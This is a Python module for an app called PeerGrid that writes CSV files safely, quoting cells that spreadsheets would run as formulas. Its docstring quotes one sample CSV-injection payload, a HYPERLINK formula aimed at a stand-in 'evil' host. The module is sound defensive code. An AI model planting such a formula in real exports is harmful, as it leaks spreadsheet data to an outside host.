"""Every CSV file PeerGrid writes goes through one writer that defuses spreadsheet formulas.

A cell that begins with ``= + - @`` (or a tab or carriage return) is run as a formula by Excel,
LibreOffice and Google Sheets when a member opens the export (OWASP "CSV injection"): a community
name or a pseudonym such as ``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet or run a
command. Such a cell is written with a leading ``'``, which spreadsheets show as text. Plain
numbers (``-1.250``, ``+49``) are left alone, so negative amounts stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(cell: object) -> object:
    """``cell`` as a spreadsheet will not run it: text starting like a formula gets a ``'``."""
    if (
        isinstance(cell, str)
        and cell.startswith(FORMULA_START)
        and not (_PLAIN_NUMBER.fullmatch(cell))
    ):
        return "'" + cell
    return cell


class SafeCsvWriter:
    """``csv.writer`` with every cell passed through :func:`neutralise`."""

    def __init__(self, file: _Writable) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: _Writable) -> SafeCsvWriter:
    return SafeCsvWriter(file)
